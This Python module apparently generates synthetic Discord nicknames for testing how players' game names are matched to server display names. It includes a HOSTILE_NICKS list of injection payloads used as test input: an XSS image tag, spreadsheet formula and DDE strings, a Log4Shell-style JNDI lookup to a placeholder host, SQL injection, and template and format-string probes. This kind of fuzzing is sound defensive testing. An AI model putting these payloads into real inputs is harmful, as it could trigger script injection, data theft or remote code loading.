"""How people write the names of their players into the names that Discord shows, and what some write instead."""

from collections.abc import Callable, Sequence
from random import Random
from typing import Final

FIRST_NAMES: Final = (
    "Bob", "Anna", "Jonas", "Priya", "Marek", "Lotte", "Sven", "Ciara", "Diego", "Emily", "Tom", "Yuki", "Femke",
    "Oscar", "Nadia", "Liam", "Greta", "Hugo", "Ines", "Kofi", "Mia", "Pawel", "Rhys", "Sofia", "Theo", "Wim",
)  # fmt: skip
_HANDLES: Final = (
    "dadof3", "🍕🍕", "just here for raids", "not a bot", "coffee first", "sleepy", "the landlord", "🌙", "away a lot",
    "ask me later", "crumbs", "no idea", "part time dad", "the quiet one", "biscuits", "monday", "tea", "left shoe",
)  # fmt: skip
HOSTILE_NICKS: Final = (
    "<img src=x onerror=alert(1)>", '=HYPERLINK("http://x","y")', "@everyone", "\u202ekcin\u202c", "{{config}}",
    "${jndi:ldap://x/y}", "' OR 1=1 --", "\u200b\u200b\u200b", "z\u0351\u0302a\u0323l\u0330go", "=2*8|cmd",
    "</style><b>", "%s%n\\x00",
)  # fmt: skip
_TITLES: Final = ("GM", "CPT", "IM", "HCIM", "Clan", "Admin", "Mod")
_SPARKLES: Final = ("✨", "🔥", "⚔️", "🌿", "⭐", "🐉", "💀", "🦀", "🍀")
_COUNTRIES: Final = ("UK", "US", "NL", "AUS", "SE", "EU", "BR")
_PLACES: Final = ("Thistle", "Comet", "Harbor", "Pebble", "Lagoon", "Violet", "Marble", "Cinder", "Walnut", "Saffron")

Form = Callable[[str, str, Random], str]
"""From a player's name and the first name of the person to a nickname."""


def exact(name: str, _: str, __: Random) -> str:
    """`Zezima`."""
    return name


def _recased(name: str, _: str, rng: Random) -> str:
    return rng.choice([written for written in (name.lower(), name.upper(), name.swapcase()) if written != name])


def _joined(name: str, first_name: str, rng: Random) -> str:
    return name.replace(" ", rng.choice("_-")) if " " in name else _recased(name, first_name, rng)


def _tagged(name: str, _: str, rng: Random) -> str:
    middle = max(2, len(name) - 3)
    spaced = name.replace(" ", "") if " " in name else f"{name[:middle]} {name[middle:]}"
    return f"[{rng.choice(_TITLES)}] {spaced}"


def _ending_in_emoji(name: str, _: str, rng: Random) -> str:
    return f"{name} {rng.choice(_SPARKLES)}"


def _between_emoji(name: str, _: str, rng: Random) -> str:
    sparkle = rng.choice(_SPARKLES)
    return f"{sparkle}{name}{sparkle}"


def _before_first_name(name: str, first_name: str, _: Random) -> str:
    return f"{name} ({first_name})"


def _after_first_name(name: str, first_name: str, _: Random) -> str:
    return f"{first_name} | {name}"


def _in_brackets(name: str, first_name: str, _: Random) -> str:
    return f"{first_name} ({name})"


def _with_country(name: str, _: str, rng: Random) -> str:
    return f"{name} - {rng.choice(_COUNTRIES)}"


FORMS: Final[tuple[Form, ...]] = (
    exact, exact, exact, exact, exact, exact, exact, _recased, _recased, _joined, _joined, _tagged, _tagged,
    _ending_in_emoji, _ending_in_emoji, _between_emoji, _between_emoji, _before_first_name, _before_first_name,
    _after_first_name, _after_first_name, _in_brackets, _with_country, _with_country,
)  # fmt: skip
"""The ways to write one name, as often as they are met."""


def with_alt(names: Sequence[str], rng: Random) -> str:
    """`Zezima | Alt1` or `Alt1/Zezima`."""
    return f"{names[0]} | {names[1]}" if rng.random() < 0.6 else f"{names[1]}/{names[0]}"


def misspelt(name: str, rng: Random) -> str:
    """*name* with one letter wrong."""
    spots = [spot for spot, letter in enumerate(name) if letter.isalpha() and spot > 0]
    spot = rng.choice(spots)
    letter = rng.choice([other for other in "aeiourstln" if other != name[spot].lower()])
    return name[:spot] + letter + name[spot + 1 :]


def nameless(rng: Random, *, hostile: bool) -> str:
    """A nickname without any player's name."""
    if hostile and rng.random() < 0.7:
        return rng.choice(HOSTILE_NICKS)
    return rng.choice(FIRST_NAMES if rng.random() < 0.5 else _HANDLES)


def lookalike(name: str, rng: Random) -> str:
    """A stranger's name: it shares a word with *name*, the rest is a word that no player of the clan has."""
    return f"{name.split()[0][:6]} {rng.choice(_PLACES)}"


def username(first_name: str, rng: Random) -> str:
    """A name of an account as Discord allows it: small letters, digits, dots and underscores."""
    return f"{first_name.lower()}{rng.choice(('.', '_', ''))}{rng.choice(_PLACES).lower()}{rng.randrange(10, 9999)}"


def as_username(name: str, rng: Random) -> str:
    """A player's name as an account's name."""
    return name.lower().replace(" ", rng.choice(("_", "")))


def compact(name: str) -> str:
    """Letters and digits of *name* in small letters: two names that agree in it can be taken for each other."""
    return "".join(letter for letter in name.casefold() if letter.isalnum())
